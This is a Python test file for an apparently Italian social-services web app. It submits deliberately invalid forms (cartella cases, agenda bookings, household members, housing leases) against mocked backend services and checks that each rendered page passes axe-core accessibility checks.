async def test_the_pages_whose_markup_the_italian_review_changed_pass_axe(desk: Desk, browser: Any) -> None:
    """The cartella's partner lists starting on "— scelga —" (and one refused), a refused time at the agenda, the
    agenda and the to-do list naming a person without a name and a street person by nickname, an outing's places to
    choose from, the forms of a household's members and its referrals and a placement's lease, refused: each page as
    Chromium draws it passes axe-core."""
    shown = await the_reviewed_pages(desk) | await the_new_forms_refused(desk)
    assert 'id="partner-error"' in shown["cartella-refused"] and 'id="time-error"' in shown["agenda-refused"]
    assert f'id="new_joined_on-{HOUSEHOLD}-error"' in shown["cartella-member-refused"], shown["cartella-member-refused"]
    assert 'id="referral_outcome-ref-1"' in shown["cartella-member-refused"]
    assert f'id="mn_not_on_file-{HOUSEHOLD}"' in shown["cartella-newcomer-on-file"]
    assert 'id="lease-m-1-signed_on-error"' in shown["housing-lease-refused"], shown["housing-lease-refused"]
    assert await axe_problems(desk, browser, shown) == []


async def the_reviewed_pages(desk: Desk) -> dict[str, str]:
    """The pages the Italian review changed, as Maria gets them: the cartella (and refused), the agenda (and
    refused, and saying a booking made), the to-do list, an outing, the search with a fiscal code refused."""
    today = clock.today()
    tomorrow = today + timedelta(days=1)
    serve_the_cartella(desk.services, today.isoformat(), today.isoformat())
    starts, ends = f"{tomorrow.isoformat()}T09:00:00+00:00", f"{tomorrow.isoformat()}T09:30:00+00:00"
    apt = {"appointment_id": "apt-1", "agenda": "desk", "operator": "giulia", "unit_id": None,
           "person_id": "p-street-torino-6", "street_id": None, "purpose": "needs_assessment", "starts_at": starts,
           "ends_at": ends, "status": "booked", "outcome": None, "booked_by": "desk.giulia"}  # fmt: skip
    desk.services.answers |= {
        ("intake", "GET", "/partners"): [{"partner_id": "coop-aurora", "name": "Cooperativa Aurora"}],
        ("intake", "POST", "/persons/search"): [
            {"person_id": "p-street-torino-6", "birth_date": None, "sex": "male", "nationality": None,
             "identity": None}],
        ("intake", "GET", "/appointments"): [apt, apt | {"appointment_id": "apt-2", "person_id": None,
                                                         "street_id": "sp-rosso"}],
        ("intake", "GET", "/mobile-units"): [],
        ("intake", "POST", "/street-persons/nicknames"): street_nicknames({"sp-rosso": "Il Rosso"}),
        ("housing", "GET", "/reminders"): [],
        ("intake", "GET", "/appointments/reminders/open"): [
            {"kind": "appointment_reminder_due", "appointment_id": "apt-2", "operator": "giulia", "person_id": None,
             "street_id": "sp-rosso", "case_id": None, "purpose": "needs_assessment", "starts_at": starts,
             "since": today.isoformat(), "waiting_days": 0}],
        ("intake", "GET", "/outings/out-1"): {
            "outing_id": "out-1", "unit_id": "unit-7f3a", "on_date": today.isoformat(), "start_time": "20:00",
            "end_time": "23:00", "places": ["Stazione", "Parco"], "staff": ["maria"], "contacts": []},
    }  # fmt: skip
    await desk.as_operator(MARIA)
    case = {"csrf": "csrf-maria", "action_area": "taking_charge", "channel": "desk", "partner": "",
            "household_id": "h-5f1c0a9e7b2d", "opened_on": today.isoformat()}  # fmt: skip
    booking = {"csrf": "csrf-maria", "day": tomorrow.isoformat(), "time": "25:00", "minutes": "30", "party": "p-1",
               "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    shown = {
        "cartella": (await desk.client.get("/persons/p-1")).text,
        "cartella-refused": (await desk.client.post("/persons/p-1/cases", data=case)).text,
        "agenda": (await desk.client.get(f"/agenda?day={tomorrow.isoformat()}")).text,
        "agenda-refused": (await desk.client.post("/agenda", data=booking)).text,
        "todo": (await desk.client.get("/todo")).text,
        "outing": (await desk.client.get("/outreach/outings/out-1")).text,
        "agenda-done": (await desk.client.get(f"/agenda?day={tomorrow.isoformat()}&done=book")).text,
        "search-refused": (
            await desk.client.post("/", data={"csrf": "csrf-maria", "fiscal_code": "DLLSST90C52Z31"})
        ).text,
    }
    return shown


async def the_new_forms_refused(desk: Desk) -> dict[str, str]:
    """The cartella's forms of a household's members and its referrals, and the housing page's lease, each refused
    at its fields (their forms open, a referral waiting for its outcome); Maria's, after `the_reviewed_pages`. Checked
    with axe only: their fields are the cartella's others' (a phone's width: `test_the_cartella_and_the_other_…`)."""
    today = clock.today().isoformat()
    record = a_record(today, today) | {"referrals": [
        {"referral_id": "ref-1", "household_id": HOUSEHOLD, "source": "social_district", "received_on": today,
         "outcome": None, "case_id": None}]}  # fmt: skip
    problem = {"status": 422, "field": "on", "reason": "is in the future",
               "errors": [{"field": "on", "reason": "is in the future"},
                          {"field": "reason", "reason": "field required"}]}  # fmt: skip
    lease_refused = {"status": 422, "field": "signed_on", "reason": "is before the placement started"}
    placed = {"match_id": "m-1", "household_id": HOUSEHOLD, "case_id": "c-8e2b7d41a9f0", "opportunity_id": "o-3b9d",
              "status": "placed", "proposed_on": today}  # fmt: skip
    desk.services.answers |= {
        ("intake", "GET", "/persons/p-1/record"): record,
        ("intake", "POST", "/persons"): httpx.Response(201, json={"person_id": "p-new"}),
        ("intake", "POST", "/households/members"): httpx.Response(422, json=problem),
        ("housing", "GET", "/proposals"): housing_matches(placed),
        ("housing", "GET", "/matches/m-1"): {"match_id": "m-1", "status": "placed", "placement": {
            "placement_id": "pl-1", "started_on": today, "ended_on": None, "end_reason": None, "lease": None}},
        ("housing", "GET", f"/households/{HOUSEHOLD}/why"): {"household_id": HOUSEHOLD, "waiting": False,
                                                             "reasons": []},
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): a_record(today, today)["cases"][0],
        ("housing", "POST", "/placements/pl-1/lease"): httpx.Response(422, json=lease_refused),
        ("housing", "GET", "/opportunities/o-3b9d"): {
            "opportunity_id": "o-3b9d", "partner": "coop-aurora", "kind": "solidarity_cohousing", "capacity": 3,
            "bedrooms": 2, "area": "san_salvario", "status": "open", "monthly_rent_cents": 30000},
    }  # fmt: skip
    born = {"csrf": "csrf-maria", "new_household": HOUSEHOLD, "mn_given_name": "Grace", "mn_birth_date": today,
            "mn_sex": "female", "mn_nationality": "NG", "new_reason": "", "new_joined_on": today}  # fmt: skip
    lease = {"csrf": "csrf-maria", "placement_id": "pl-1", "lease_type": "lease", "monthly_rent": "300",
             "deposit": "600", "start_date": today, "signed_on": today}  # fmt: skip
    member_refused = (await desk.client.post("/persons/p-1/member-new", data=born)).text
    desk.services.answers[("intake", "POST", "/persons/search")] = [
        {"person_id": "p-grace", "birth_date": today, "identity": {"given_name": "Grace", "family_name": None}}
    ]
    return {
        "cartella-member-refused": member_refused,
        "cartella-newcomer-on-file": (await desk.client.post("/persons/p-1/member-new", data=born)).text,
        "housing-lease-refused": (
            await desk.client.post(f"/households/{HOUSEHOLD}/housing/m-1/lease", data=lease)
        ).text,
    }
